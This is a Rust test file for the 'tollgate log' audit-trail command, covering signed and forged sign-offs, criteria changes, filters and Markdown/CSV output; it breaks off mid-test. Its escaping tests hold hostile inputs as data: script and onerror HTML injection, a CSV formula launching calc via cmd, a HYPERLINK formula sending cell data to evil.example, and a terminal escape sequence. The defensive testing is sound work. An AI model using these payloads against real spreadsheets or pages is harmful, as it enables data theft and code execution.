//! `tollgate log` as the audit trail: each kind of event, who made it and how that is proven,
//! each filter, and the Markdown and CSV outputs, on repositories built here. Every JSON output
//! is validated against the published schema ([`GitRepo::json`]).

#![allow(clippy::unwrap_used)]

use std::cell::RefCell;

use predicates::str::contains;
use serde_json::Value;

use crate::harness::{
    GitRepo, IT, MVP, OWNER, POC, STRANGER, SshKey, TECH, add_signing_key, agree_audit_log,
    decision, record_poc_decision,
};

/// The example with Sho Nakamura's signing key in people.yaml from the first commit, then:
/// #2 he agrees `prompt-audit-log` in a commit signed with it; #3 somebody commits as Kenji
/// Yamamoto (his e-mail, unsigned) agreeing `production-cost`, which Kenji approves; #4 the
/// accuracy threshold is lowered with a `criteria_changes` entry and usability's without one;
/// #5 the owner records the PoC decision and moves the project to MVP.
struct Trail {
    repo: GitRepo,
    signed: String,
    forged: String,
    criteria: String,
    decided: String,
}

fn trail() -> Trail {
    let key: RefCell<Option<SshKey>> = RefCell::new(None);
    let repo = GitRepo::example_with(|r| {
        let k = r.ssh_key("nakamura");
        add_signing_key(r, "nakamura-sho", &k);
        *key.borrow_mut() = Some(k);
    });
    let key = key.into_inner().unwrap();
    agree_audit_log(&repo);
    let signed = repo.commit_signed("Agree the prompt audit log (#2)", IT, &key);
    repo.edit(
        &format!("{MVP}/governance.yaml"),
        "    status: pending\n",
        "    status: agreed\n    agreed_at: 2026-11-21\n",
    );
    repo.git(&["add", "-A"]);
    repo.git_by(
        &["commit", "-q", "-m", "Agree the production cost (#3)"],
        OWNER,
        STRANGER,
    );
    let forged = repo.head();
    let kpis = format!("{POC}/kpis.yaml");
    repo.edit(
        &kpis,
        "threshold: 70            #",
        "threshold: 60            #",
    );
    repo.edit(&kpis, "threshold: 3.5\n", "threshold: 3.0\n");
    repo.edit(
        &kpis,
        "criteria_changes: []\n",
        "criteria_changes:\n  - kpi: answer-accuracy\n    gate: poc\n    changed_by: yamamoto-kenji\n    changed_at: 2026-11-19\n    rationale: Operators edit every draft; 60% already saves time.\n",
    );
    let criteria = repo.commit("Lower the accuracy criterion (#4)", OWNER);
    record_poc_decision(&repo);
    repo.edit(&format!("{POC}/project.yaml"), "stage: poc", "stage: mvp");
    let decided = repo.commit("Record the PoC gate decision (#5)", OWNER);
    Trail {
        repo,
        signed,
        forged,
        criteria,
        decided,
    }
}

fn entries(out: &Value) -> &Vec<Value> {
    out["entries"].as_array().unwrap()
}

/// The entries a commit made (not the dates passing that it set, which name it too).
fn of_commit<'a>(out: &'a Value, commit: &str) -> Vec<&'a Value> {
    entries(out)
        .iter()
        .filter(|e| {
            e["commit"]["id"] == commit
                && e["event"]["kind"] != "waiver-expired"
                && e["event"]["kind"] != "review-due-passed"
        })
        .collect()
}

fn kinds(list: &[&Value]) -> Vec<String> {
    list.iter()
        .map(|e| e["event"]["kind"].as_str().unwrap().to_string())
        .collect()
}

/// `log` with a fixed `--now` (2026-12-01 unless `extra` gives one), so that which dates
/// passed does not depend on today.
fn log_json(repo: &GitRepo, extra: &[&str]) -> Value {
    let mut args = vec!["log", "--format", "json"];
    if !extra.contains(&"--now") {
        args.extend_from_slice(&["--now", "2026-12-01"]);
    }
    args.extend_from_slice(extra);
    repo.json(&args)
}

#[test]
fn a_signed_signoff_by_the_approver_is_proven_and_a_forged_one_is_not() {
    let t = trail();
    let out = log_json(&t.repo, &[]);
    let signed = of_commit(&out, &t.signed);
    assert_eq!(kinds(&signed), ["governance-status-changed"]);
    let e = signed[0];
    assert_eq!(e["project"], "support-reply-drafts");
    // The policy first needs an audit-log agreement at the MVP gate.
    assert_eq!(e["gate"], "mvp");
    assert_eq!(e["commit"]["pr"], 2);
    assert_eq!(e["event"]["item"], "prompt-audit-log");
    assert_eq!(e["event"]["from"], "pending");
    assert_eq!(e["event"]["to"], "agreed");
    assert_eq!(e["event"]["approver"], "nakamura-sho");
    assert_eq!(e["by"]["status"], "proven");
    assert_eq!(e["by"]["person"], "nakamura-sho");
    assert_eq!(e["by"]["entitled"], serde_json::json!(["nakamura-sho"]));
    assert_eq!(e["by"]["proof"]["kind"], "signed-commit");
    assert_eq!(e["by"]["proof"]["commit"], t.signed.as_str());
    assert!(
        e["by"]["proof"]["key"]
            .as_str()
            .unwrap()
            .starts_with("SHA256:")
    );

    let forged = of_commit(&out, &t.forged);
    assert_eq!(kinds(&forged), ["governance-status-changed"]);
    let e = forged[0];
    assert_eq!(e["project"], "contract-review-assist");
    assert_eq!(e["event"]["item"], "production-cost");
    assert_eq!(e["event"]["approver"], "yamamoto-kenji");
    // The e-mail is Kenji's, so it is his claim, and nothing proves it.
    assert_eq!(e["by"]["status"], "claimed");
    assert_eq!(e["by"]["person"], "yamamoto-kenji");
    assert_eq!(e["by"]["proof"], Value::Null);
    assert!(e["by"]["missing"].as_str().unwrap().contains("not signed"));

    t.repo
        .tollgate(&["log", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(
            "  support-reply-drafts: `prompt-audit-log` (audit-log) pending -> agreed\n      by: `nakamura-sho`, the approver — proven: commit",
        ))
        .stdout(contains(
            "  contract-review-assist: `production-cost` (cost) pending -> agreed\n      by: Kenji Yamamoto <kenji.yamamoto@example.com> (`yamamoto-kenji`), the approver — NOT proven, only claimed by the commit e-mail: the commit is not signed",
        ));
}

#[test]
fn a_signoff_by_someone_else_is_not_proven_to_be_the_approvers() {
    let repo = GitRepo::example();
    agree_audit_log(&repo);
    // The tech lead, in people.yaml but not the approver, agrees the item himself.
    let commit = repo.commit("Agree the audit log myself", TECH);
    let out = log_json(&repo, &["--kind", "signoff"]);
    let e = of_commit(&out, &commit)[0];
    assert_eq!(e["by"]["status"], "unproven");
    assert_eq!(e["by"]["person"], "suzuki-daisuke");
    assert_eq!(e["by"]["entitled"], serde_json::json!(["nakamura-sho"]));
    repo.tollgate(&["log", "--kind", "signoff", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(
            "by: Daisuke Suzuki <daisuke.suzuki@example.com> (`suzuki-daisuke`) — NOT proven to be the approver `nakamura-sho`",
        ));
}

#[test]
fn criteria_changes_recorded_and_unrecorded() {
    let t = trail();
    let out = log_json(&t.repo, &["--kind", "criteria"]);
    let changed = of_commit(&out, &t.criteria);
    assert_eq!(kinds(&changed), ["criteria-changed", "criteria-changed"]);
    let accuracy = changed
        .iter()
        .find(|e| e["event"]["kpi"] == "answer-accuracy")
        .unwrap();
    assert_eq!(accuracy["gate"], "poc");
    assert_eq!(
        accuracy["event"]["changes"],
        serde_json::json!(["threshold 70 -> 60"])
    );
    assert_eq!(accuracy["event"]["record"]["changed_by"], "yamamoto-kenji");
    assert_eq!(accuracy["event"]["after_results"], true);
    assert_eq!(
        accuracy["rationale"],
        "Operators edit every draft; 60% already saves time."
    );
    assert_eq!(
        accuracy["by"]["entitled"],
        serde_json::json!(["yamamoto-kenji"])
    );
    assert_eq!(accuracy["by"]["status"], "claimed");
    let usability = changed
        .iter()
        .find(|e| e["event"]["kpi"] == "field-usability")
        .unwrap();
    assert_eq!(usability["event"]["record"], Value::Null);
    assert_eq!(usability["rationale"], Value::Null);
    // The first commit registered every criterion.
    assert!(
        entries(&out)
            .iter()
            .any(|e| e["event"]["kind"] == "criteria-registered"
                && e["event"]["kpi"] == "answer-accuracy"
                && e["event"]["criterion"] == ">= 70% (stop at <= 40%)")
    );
    t.repo
        .tollgate(&["log", "--kind", "criteria-changed", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(
            "KPI `field-usability`: PoC criteria changed: threshold 3.5 -> 3",
        ))
        .stdout(contains("UNRECORDED: no criteria_changes entry"))
        .stdout(contains(
            "recorded in criteria_changes by `yamamoto-kenji` on 2026-11-19",
        ));

    // Removing the KPI removes its criteria.
    let kpis = format!("{POC}/kpis.yaml");
    let text = t.repo.read(&kpis);
    let start = text.find("  - id: response-time").unwrap();
    let end = text.find("criteria_changes:").unwrap();
    t.repo
        .write(&kpis, &format!("{}{}", &text[..start], &text[end..]));
    let removed = t.repo.commit("Drop the response-time KPI", OWNER);
    let out = log_json(&t.repo, &["--kind", "criteria-removed"]);
    let e = &entries(&out)[0];
    assert_eq!(e["commit"]["id"], removed.as_str());
    assert_eq!(e["event"]["kpi"], "response-time");
    assert_eq!(e["event"]["kpi_removed"], true);
    assert_eq!(e["event"]["after_results"], true);
}

#[test]
fn results_are_measured_against_the_criteria_of_their_commit() {
    let t = trail();
    // Accuracy 78% passed 70% and still passes the lowered 60%; now 55% of 200 fails it.
    t.repo.edit(
        &format!("{POC}/results.yaml"),
        "successes: 156               # 156 of 200 drafts rated correct = 78%",
        "successes: 110",
    );
    let lowered = t.repo.commit("Re-run the accuracy evaluation (#6)", TECH);
    t.repo.append(
        &format!("{POC}/results.yaml"),
        "\n  - id: poc-accuracy-run-2\n    kpi: answer-accuracy\n    gate: poc\n    successes: 30\n    n: 200\n    dataset:\n      id: support-inquiry-test-set\n      kind: test\n    measured_at: 2026-11-25\n    measured_by: suzuki-daisuke\n",
    );
    let added = t.repo.commit("Second accuracy run (#7)", TECH);
    let out = log_json(&t.repo, &["--kind", "result"]);
    let e = of_commit(&out, &lowered)[0];
    assert_eq!(e["event"]["kind"], "result-changed");
    assert_eq!(e["event"]["before"]["shown"], "78%");
    assert_eq!(e["event"]["before"]["status"], "pass");
    assert_eq!(e["event"]["after"]["shown"], "55%");
    assert_eq!(e["event"]["after"]["n"], 200);
    assert_eq!(e["event"]["after"]["criterion"], ">= 60% (stop at <= 40%)");
    assert_eq!(e["event"]["after"]["status"], "fail");
    assert_eq!(e["event"]["after"]["counts"], true);
    let e = of_commit(&out, &added)[0];
    assert_eq!(e["event"]["kind"], "result-recorded");
    assert_eq!(e["event"]["measured"]["shown"], "15%");
    assert_eq!(e["event"]["measured"]["status"], "stop");
    assert_eq!(e["event"]["measured"]["counts"], true);
    // A result is anybody's to record: the author's own identity is what is claimed.
    assert_eq!(e["by"]["entitled"], serde_json::json!([]));
    assert_eq!(e["by"]["person"], "suzuki-daisuke");
    // The first commit's results against the criteria then (70%).
    let first = entries(&out)
        .iter()
        .find(|e| {
            e["event"]["result"] == "poc-accuracy-run-1" && e["event"]["kind"] == "result-recorded"
        })
        .unwrap();
    assert_eq!(
        first["event"]["measured"]["criterion"],
        ">= 70% (stop at <= 40%)"
    );
    assert_eq!(first["by"], Value::Null);
    t.repo
        .tollgate(&["log", "--kind", "result", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(
            "result `poc-accuracy-run-2` recorded: KPI `answer-accuracy` at the PoC gate 15% (n 200, test) against >= 60% (stop at <= 40%): stop",
        ));

    // Removed.
    let text = t.repo.read(&format!("{POC}/results.yaml"));
    let start = text.find("\n  - id: poc-accuracy-run-2").unwrap();
    t.repo.write(
        &format!("{POC}/results.yaml"),
        &format!("{}\n", &text[..start]),
    );
    t.repo.commit("Drop the second run", TECH);
    let out = log_json(&t.repo, &["--kind", "result-removed"]);
    assert_eq!(entries(&out).len(), 1);
    assert_eq!(entries(&out)[0]["event"]["result"], "poc-accuracy-run-2");
}

#[test]
fn decisions_recorded_superseded_edited_and_removed() {
    let t = trail();
    let path = format!("{POC}/decisions.yaml");
    let mut text = t.repo.read(&path);
    text.push_str(&decision(
        "poc-gate-2",
        "poc",
        "redesign",
        "yamamoto-kenji",
        "Accuracy dropped on the new run.",
    ));
    text.push_str("    supersedes: poc-gate\n");
    t.repo.write(&path, &text);
    let superseding = t.repo.commit("Supersede the PoC decision (#8)", OWNER);
    t.repo.edit(
        &path,
        "Accuracy dropped on the new run.",
        "Quietly rewritten.",
    );
    let edited = t.repo.commit("Reword", TECH);
    let out = log_json(&t.repo, &["--kind", "decision"]);
    assert_eq!(
        kinds(&of_commit(&out, &superseding)),
        ["decision-recorded", "decision-superseded"]
    );
    let sup = of_commit(&out, &superseding)[1];
    assert_eq!(sup["event"]["id"], "poc-gate");
    assert_eq!(sup["event"]["by"], "poc-gate-2");
    assert_eq!(sup["by"]["entitled"], serde_json::json!(["yamamoto-kenji"]));
    assert_eq!(kinds(&of_commit(&out, &edited)), ["decision-edited"]);
    assert_eq!(kinds(&of_commit(&out, &t.decided)), ["decision-recorded"]);
    let text = t.repo.read(&path);
    t.repo.write(
        &path,
        &text[..text.find("\n  - id: poc-gate-2").unwrap() + 1],
    );
    let removed = t.repo.commit("Remove it", TECH);
    let out = log_json(&t.repo, &["--kind", "decision-removed"]);
    assert_eq!(kinds(&of_commit(&out, &removed)), ["decision-removed"]);
    t.repo
        .tollgate(&["log", "--kind", "decision", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(
            "decision `poc-gate` (PoC gate) superseded by `poc-gate-2`",
        ))
        .stdout(contains(
            "decision `poc-gate-2` (PoC gate) EDITED after it was recorded",
        ))
        .stdout(contains(
            "decision `poc-gate-2` (PoC gate) DELETED after it was recorded",
        ));
}

#[test]
fn governance_added_approver_changed_waived_removed_and_dates_passing() {
    let repo = GitRepo::example();
    let gov = format!("{POC}/governance.yaml");
    repo.append(
        &gov,
        "\n  - id: usage-rules\n    topic: usage-rules\n    title: Rules for operators\n    department: it\n    approver: sato-yuki\n    status: pending\n",
    );
    let added = repo.commit("Add usage rules (#2)", OWNER);
    repo.edit(&gov, "approver: sato-yuki\n", "approver: ito-naoki\n");
    let moved = repo.commit("Usage rules go to security", OWNER);
    repo.edit(
        &gov,
        "approver: ito-naoki\n    status: pending\n",
        "approver: ito-naoki\n    status: waived\n    waiver:\n      approved_by: ito-naoki\n      reason: Only trained operators use it in the PoC.\n      expires: 2027-01-31\n",
    );
    let waived = repo.commit("Waive usage rules for the PoC", OWNER);
    repo.edit(&gov, "expires: 2027-01-31", "expires: 2027-03-31");
    let renewed = repo.commit("Renew the waiver", OWNER);
    let text = repo.read(&gov);
    let start = text.find("  - id: provider-terms").unwrap();
    let end = text.find("  - id: wrong-draft-handling").unwrap();
    repo.write(&gov, &format!("{}{}", &text[..start], &text[end..]));
    let removed = repo.commit("Remove provider terms", TECH);

    let out = log_json(
        &repo,
        &[
            "--now",
            "2027-09-15",
            "--kind",
            "signoff",
            "--project",
            "support-reply-drafts",
        ],
    );
    assert_eq!(kinds(&of_commit(&out, &added)), ["governance-added"]);
    let e = of_commit(&out, &added)[0];
    assert_eq!(e["event"]["status"], "pending");
    assert_eq!(e["event"]["approver"], "sato-yuki");
    let e = of_commit(&out, &moved)[0];
    assert_eq!(e["event"]["kind"], "approver-changed");
    assert_eq!(e["event"]["from"], "sato-yuki");
    assert_eq!(e["event"]["to"], "ito-naoki");
    // The owner or the approver before may move an item to someone else.
    assert_eq!(
        e["by"]["entitled"],
        serde_json::json!(["yamamoto-kenji", "sato-yuki"])
    );
    let e = of_commit(&out, &waived)[0];
    assert_eq!(e["event"]["kind"], "governance-status-changed");
    assert_eq!(e["event"]["to"], "waived");
    assert_eq!(e["event"]["waiver"]["expires"], "2027-01-31");
    assert_eq!(e["rationale"], "Only trained operators use it in the PoC.");
    let e = of_commit(&out, &renewed)[0];
    assert_eq!(e["event"]["kind"], "waiver-granted");
    assert_eq!(e["event"]["expires"], "2027-03-31");
    let e = of_commit(&out, &removed)[0];
    assert_eq!(e["event"]["kind"], "governance-removed");
    assert_eq!(e["event"]["item"], "provider-terms");
    assert_eq!(e["event"]["status"], "agreed");
    assert_eq!(e["by"]["status"], "unproven");

    // Dates passing up to --now: the renewed waiver's expiry and the review due 2027-08-31,
    // newest first, before the commits (which are all older).
    let lapses: Vec<&Value> = entries(&out)
        .iter()
        .filter(|e| {
            e["event"]["kind"] == "waiver-expired" || e["event"]["kind"] == "review-due-passed"
        })
        .collect();
    let found: Vec<(String, String)> = lapses
        .iter()
        .map(|e| {
            (
                e["event"]["kind"].as_str().unwrap().to_string(),
                e["date"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("review-due-passed".to_string(), "2027-08-31".to_string()),
            ("waiver-expired".to_string(), "2027-03-31".to_string()),
        ]
    );
    assert_eq!(entries(&out)[0]["event"]["kind"], "review-due-passed");
    assert_eq!(entries(&out)[0]["event"]["item"], "inquiry-data-use");
    assert_eq!(lapses[0]["by"], Value::Null);
    // The waiver first granted until January did not expire: it was renewed before then.
    assert!(
        !entries(&out).iter().any(
            |e| e["event"]["expires"] == "2027-01-31" && e["event"]["kind"] == "waiver-expired"
        )
    );
    // Before those dates nothing has passed.
    let out = log_json(&repo, &["--kind", "review-due-passed,waiver-expired"]);
    assert!(entries(&out).is_empty());
}

#[test]
fn rule_waivers_and_blocking_issues() {
    let repo = GitRepo::example();
    repo.append(
        &format!("{POC}/project.yaml"),
        "waivers:\n  - rule: governance-item-pending\n    reason: The audit log is settled after the PoC.\n    approved_by: yamamoto-kenji\n    expires: 2027-02-01\n",
    );
    let granted = repo.commit("Waive the pending audit log rule", OWNER);
    let issues = format!("{POC}/issues.yaml");
    repo.append(
        &issues,
        "\n  - id: cost-owner\n    area: cost-structure\n    title: Who pays for the model calls\n    owner: sato-yuki\n    due: 2027-01-15\n    blocks: mvp\n    status: open\n",
    );
    let opened = repo.commit("Open the cost owner issue", TECH);
    let text = repo.read(&issues);
    let at = text.rfind("    status: open\n").unwrap();
    repo.write(
        &issues,
        &format!(
            "{}    status: resolved\n    resolution: Finance pays from the support budget.\n",
            &text[..at]
        ),
    );
    let resolved = repo.commit("Resolve the cost owner issue", TECH);
    let out = log_json(&repo, &["--kind", "waiver,issue"]);
    let e = of_commit(&out, &granted)[0];
    assert_eq!(e["event"]["kind"], "waiver-granted");
    assert_eq!(e["event"]["rule"], "governance-item-pending");
    assert_eq!(e["event"]["item"], Value::Null);
    assert_eq!(e["by"]["entitled"], serde_json::json!(["yamamoto-kenji"]));
    let e = of_commit(&out, &opened)[0];
    assert_eq!(e["event"]["kind"], "issue-opened");
    assert_eq!(e["event"]["issue"], "cost-owner");
    assert_eq!(e["gate"], "mvp");
    let e = of_commit(&out, &resolved)[0];
    assert_eq!(e["event"]["kind"], "issue-resolved");
    assert_eq!(e["rationale"], "Finance pays from the support budget.");
    // An open blocking issue deleted instead of resolved.
    let text = repo.read(&issues);
    let start = text.find("  - id: prompt-change-approval").unwrap();
    let end = start + text[start..].find("\n\n").unwrap() + 2;
    repo.write(&issues, &format!("{}{}", &text[..start], &text[end..]));
    let deleted = repo.commit("Drop the prompt approval issue", TECH);
    let out = log_json(&repo, &["--kind", "issue-removed"]);
    assert_eq!(kinds(&of_commit(&out, &deleted)), ["issue-removed"]);
    assert_eq!(entries(&out)[0]["event"]["issue"], "prompt-change-approval");
    assert_eq!(entries(&out)[0]["event"]["blocks"], "mvp");

    let out = log_json(&repo, &["--kind", "waiver", "--now", "2027-03-01"]);
    assert_eq!(entries(&out)[0]["event"]["kind"], "waiver-expired");
    assert_eq!(entries(&out)[0]["event"]["rule"], "governance-item-pending");
}

#[test]
fn a_signoff_merged_from_a_branch_is_attributed_to_the_branch_commit() {
    let repo = GitRepo::example();
    repo.git(&["checkout", "-q", "-b", "agree"]);
    agree_audit_log(&repo);
    let on_branch = repo.commit("Agree the audit log", IT);
    repo.git(&["checkout", "-q", "main"]);
    repo.git(&[
        "merge",
        "-q",
        "--no-ff",
        "agree",
        "-m",
        "Merge pull request #12 from acme/agree",
    ]);
    let merge = repo.head();
    let out = log_json(&repo, &["--kind", "signoff"]);
    let e = &entries(&out)[0];
    assert_eq!(e["commit"]["id"], merge.as_str());
    assert_eq!(e["commit"]["pr"], 12);
    assert_eq!(e["by"]["commit"], on_branch.as_str());
    assert_eq!(e["by"]["person"], "nakamura-sho");
    assert_eq!(e["by"]["status"], "claimed");
}

#[test]
fn filters_kind_person_project_gate_since_until() {
    let t = trail();
    let all = log_json(&t.repo, &[]);
    let count = |out: &Value| entries(out).len();

    // --kind: groups and exact kinds, comma-separated or repeated.
    let signoffs = log_json(&t.repo, &["--kind", "signoff"]);
    assert!(count(&signoffs) > 2);
    assert!(entries(&signoffs).iter().all(|e| {
        let k = e["event"]["kind"].as_str().unwrap();
        k.starts_with("governance-") || k == "approver-changed" || k.starts_with("waiver-")
    }));
    let two = log_json(&t.repo, &["--kind", "decision", "--kind", "stage"]);
    let same = log_json(&t.repo, &["--kind", "decision,stage"]);
    assert_eq!(two["entries"], same["entries"]);
    assert!(entries(&two).iter().all(|e| {
        let k = e["event"]["kind"].as_str().unwrap();
        k.starts_with("decision-") || k == "stage-changed"
    }));
    t.repo
        .tollgate(&["log", "--kind", "signoffs"])
        .assert()
        .code(2)
        .stderr(contains("`signoffs` is not a kind of event"));

    // --person: what Sho agreed (proven), and the sign-off only claimed to be Kenji's.
    let sho = log_json(&t.repo, &["--person", "nakamura-sho", "--since", "HEAD~4"]);
    assert_eq!(
        kinds(&entries(&sho).iter().collect::<Vec<_>>()),
        ["governance-status-changed"]
    );
    let kenji = log_json(
        &t.repo,
        &["--person", "yamamoto-kenji", "--kind", "signoff"],
    );
    let forged: Vec<&Value> = entries(&kenji)
        .iter()
        .filter(|e| e["commit"]["id"] == t.forged.as_str())
        .collect();
    assert_eq!(forged.len(), 1);
    assert!(entries(&kenji).iter().all(|e| {
        e["by"]["person"] == "yamamoto-kenji"
            || e["by"]["entitled"]
                .as_array()
                .is_some_and(|a| a.iter().any(|p| p == "yamamoto-kenji"))
            || e["event"]["approver"] == "yamamoto-kenji"
    }));
    t.repo
        .tollgate(&["log", "--person", "nobody-here"])
        .assert()
        .success()
        .stderr(contains("`nobody-here` is not in people.yaml"))
        .stdout(contains("no events to show"));

    // --project and --gate.
    let poc = log_json(
        &t.repo,
        &["--project", "support-reply-drafts", "--gate", "poc"],
    );
    assert!(count(&poc) > 0 && count(&poc) < count(&all));
    assert!(
        entries(&poc)
            .iter()
            .all(|e| e["project"] == "support-reply-drafts" && e["gate"] == "poc")
    );

    // --since / --until with revisions: what came after one commit, up to another.
    let window = log_json(&t.repo, &["--since", &t.signed, "--until", &t.criteria]);
    let commits: std::collections::BTreeSet<&str> = entries(&window)
        .iter()
        .map(|e| e["commit"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(
        commits,
        [t.forged.as_str(), t.criteria.as_str()]
            .into_iter()
            .collect()
    );
    // With dates: every commit here is on 2026-09-22, so a later --since leaves nothing and
    // an --until of that day keeps everything.
    assert_eq!(count(&log_json(&t.repo, &["--since", "2026-09-23"])), 0);
    assert_eq!(
        count(&log_json(&t.repo, &["--until", "2026-09-22"])),
        count(&all)
    );
    t.repo
        .tollgate(&["log", "--since", "no-such-rev"])
        .assert()
        .code(2)
        .stderr(contains("no-such-rev"));
}

#[test]
fn markdown_minutes_escape_what_the_repository_says() {
    let t = trail();
    t.repo.edit(
        &format!("{POC}/decisions.yaml"),
        "rationale: Accuracy 78% clears 70%.",
        "rationale: \"<script>alert(1)</script> [click](http://evil.example) | pipe\"",
    );
    t.repo.commit(
        "<img src=x onerror=alert(1)> [click](http://evil.example)",
        ("<b>Mallory</b>", "mallory@evil.example"),
    );
    let out = t
        .repo
        .tollgate(&[
            "log",
            "--format",
            "markdown",
            "--project",
            "support-reply-drafts",
            "--now",
            "2026-12-01",
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(
        md.starts_with("## Audit trail of support-reply-drafts\n"),
        "{md}"
    );
    assert!(
        md.contains(&format!("### 2026-09-22 · `{}` · PR", &t.signed[..7])),
        "{md}"
    );
    assert!(
        md.contains("`nakamura-sho`, the approver — proven: commit"),
        "{md}"
    );
    // The edit is shown, and what its author wrote cannot add markup or links.
    assert!(md.contains("EDITED after it was recorded"), "{md}");
    for hostile in ["<img", "<b>", "[click](http", "<script>"] {
        assert!(!md.contains(hostile), "{hostile} in {md}");
    }
}

#[test]
fn csv_is_rfc_4180_and_neutralises_formulas() {
    let repo = GitRepo::example();
    let gov = format!("{POC}/governance.yaml");
    repo.edit(
        &gov,
        "    status: pending\n    note: Retention period (one or three years) still being settled with security.\n",
        "    status: rejected\n    note: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"ok\\\")\\n+1, \\\"two\\\"\\r\\n-3\"\n",
    );
    repo.git(&["add", "-A"]);
    repo.git_by(
        &["commit", "-q", "-m", "@SUM(A1:A9), \"quoted\""],
        ("=cmd|' /C calc'!A0", "sho.nakamura@example.com"),
        ("=cmd|' /C calc'!A0", "sho.nakamura@example.com"),
    );
    let out = repo
        .tollgate(&["log", "--format", "csv", "--now", "2026-12-01"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.ends_with("\r\n"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers[0], "date");
    assert!(headers.contains(&"proof".to_string()));
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert!(rows.iter().all(|r| r.len() == headers.len()));
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rejected = rows
        .iter()
        .find(|r| {
            &r[col("kind")] == "governance-status-changed"
                && &r[col("subject")] == "prompt-audit-log"
        })
        .unwrap();
    // Every cell a spreadsheet would evaluate starts with a quote; the text is otherwise kept.
    assert_eq!(&rejected[col("author")], "'=cmd|' /C calc'!A0");
    assert_eq!(
        &rejected[col("rationale")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\") +1, \"two\" -3"
    );
    assert_eq!(&rejected[col("proof")], "claimed");
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell
                    .trim_start_matches(' ')
                    .starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
    }
    // Nowhere in the file does a field start with the subject's `@`.
    assert!(!text.contains(",@SUM") && !text.contains("\n@SUM"));
}

#[test]
fn show_puts_each_item_and_kpi_with_its_history() {
    let t = trail();
    let out = t.repo.json(&[
        "show",
        "support-reply-drafts",
        "--format",
        "json",
        "--now",
        "2026-12-01",
    ]);
    assert_eq!(out["project"], "support-reply-drafts");
    assert_eq!(out["commit"]["id"], t.decided.as_str());
    assert_eq!(out["stage"], "mvp");
    let item = out["governance"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["item"] == "prompt-audit-log")
        .unwrap();
    assert_eq!(item["status"], "agreed");
    let kinds: Vec<&str> = item["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"]["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["governance-status-changed", "governance-added"]);
    assert_eq!(item["history"][0]["by"]["status"], "proven");
    let kpi = out["kpis"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kpi"] == "answer-accuracy")
        .unwrap();
    assert_eq!(kpi["gates"][0]["gate"], "poc");
    assert_eq!(kpi["gates"][0]["measured"]["threshold"], 60.0);
    assert_eq!(kpi["gates"][0]["measured"]["status"], "pass");
    let kinds: Vec<&str> = kpi["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"]["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        ["criteria-changed", "criteria-registered", "result-recorded"]
    );
    // Decisions and stage moves are the project's own history.
    assert!(
        out["other"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["event"]["kind"] == "decision-recorded")
    );

    // At an earlier commit: the state then, and nothing that came later.
    let then = t.repo.json(&[
        "show",
        "support-reply-drafts",
        "--rev",
        &t.signed,
        "--format",
        "json",
        "--now",
        "2026-12-01",
    ]);
    assert_eq!(then["stage"], "poc");
    let kpi = then["kpis"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kpi"] == "answer-accuracy")
        .unwrap();
    assert_eq!(kpi["gates"][0]["measured"]["threshold"], 70.0);
    assert_eq!(kpi["history"].as_array().unwrap().len(), 2);

    t.repo
        .tollgate(&["show", "support-reply-drafts", "--now", "2026-12-01"])
        .assert()
        .success()
        .stdout(contains(format!(
            "support-reply-drafts at {} (2026-09-22, Record the PoC gate decision (#5)): stage MVP",
            &t.decided[..7]
        )))
        .stdout(contains(
            "  prompt-audit-log (audit-log): agreed, approver `nakamura-sho`\n",
        ))
        .stdout(contains(
            "    PoC: 78% (n 200, test) against >= 60% (stop at <= 40%): pass\n",
        ))
        .stdout(contains(
            "by: `nakamura-sho`, the approver — proven: commit",
        ));
    t.repo
        .tollgate(&["show", "no-such-project"])
        .assert()
        .code(2)
        .stderr(contains("there is no project `no-such-project` at commit"));
}

#[test]
fn a_key_added_in_the_signoff_itself_proves_nothing() {
    // A pull request that lists its own key for the approver and signs the sign-off with it:
    // people.yaml as it was before the change decides, so the signature proves nothing.
    let repo = GitRepo::example();
    let key = repo.ssh_key("mallory");
    add_signing_key(&repo, "nakamura-sho", &key);
    agree_audit_log(&repo);
    let commit = repo.commit_signed("Agree the audit log (#4)", IT, &key);
    let out = log_json(&repo, &["--kind", "signoff"]);
    let e = of_commit(&out, &commit)[0];
    assert_eq!(e["event"]["item"], "prompt-audit-log");
    assert_ne!(e["by"]["status"], "proven");
    assert_eq!(e["by"]["proof"], Value::Null);
    // Once the key is in people.yaml, the next signed sign-off is proven.
    repo.edit(
        &format!("{POC}/governance.yaml"),
        "status: agreed\n    agreed_at: 2026-11-20",
        "status: pending",
    );
    repo.commit("Reopen", OWNER);
    agree_audit_log(&repo);
    let again = repo.commit_signed("Agree the audit log again (#5)", IT, &key);
    let out = log_json(&repo, &["--kind", "signoff"]);
    assert_eq!(of_commit(&out, &again)[0]["by"]["status"], "proven");
}

#[test]
fn text_output_cannot_drive_the_terminal() {
    let repo = GitRepo::example();
    agree_audit_log(&repo);
    repo.git(&["add", "-A"]);
    repo.git_by(
        &["commit", "-q", "-m", "Agree \u{1b}]0;owned\u{7} the log"],
